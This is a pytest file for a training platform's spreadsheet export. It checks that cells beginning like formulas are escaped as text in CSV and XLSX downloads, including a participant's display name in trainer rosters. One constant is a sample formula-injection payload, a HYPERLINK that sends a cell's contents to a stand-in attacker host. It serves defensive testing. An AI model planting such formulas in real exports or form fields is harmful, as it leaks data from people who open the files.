"""Every CSV and XLSX LearnHub produces goes through one writer that keeps typed text from running as a
formula in a spreadsheet program."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from learnhub.spreadsheets import csv_bytes, xlsx_bytes
from tests.factories import CohortFactory, CohortSessionFactory, EnrolmentFactory, UserFactory

HOSTILE = '=HYPERLINK("https://evil.example/?d="&B2,"Click")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", [HOSTILE, *STARTS])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value):
    [_header, row] = list(csv.reader(io.StringIO(csv_bytes(["Name"], [[value]]).decode("utf-8-sig"), newline="")))
    assert row == ["'" + value]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([("T", ["Name"], [[value]])]))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("'")  # (XLSX keeps \r as \n)


def test_numbers_and_ordinary_text_are_left_as_they_are():
    [_header, row] = list(csv.reader(io.StringIO(csv_bytes(["a", "b"], [["Šid", -3]]).decode("utf-8-sig"))))
    assert row == ["Šid", "-3"]


def test_no_other_module_writes_csv_or_xlsx():
    package = Path(__file__).resolve().parents[1] / "learnhub"
    writers = [path.name for path in package.rglob("*.py")
               if re.search(r"csv\.writer|Workbook\(", path.read_text(encoding="utf-8"))]
    assert writers == ["spreadsheets.py"]


def _signed_in_trainer(client):
    trainer = UserFactory(email="trainer@example.org", roles=["trainer"])
    client.post("/auth/login", data={"email": trainer.email, "password": "correct horse battery staple"})
    return trainer


@pytest.mark.parametrize("download", ["roster.csv", "attendance.csv"])
def test_a_participants_hostile_name_stays_text_in_the_trainers_downloads(client, download):
    cohort = CohortFactory(trainer=_signed_in_trainer(client))
    CohortSessionFactory(cohort=cohort)
    EnrolmentFactory(cohort=cohort, user=UserFactory(display_name=HOSTILE))
    response = client.get(f"/trainer/cohorts/{cohort.id}/{download}")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + HOSTILE
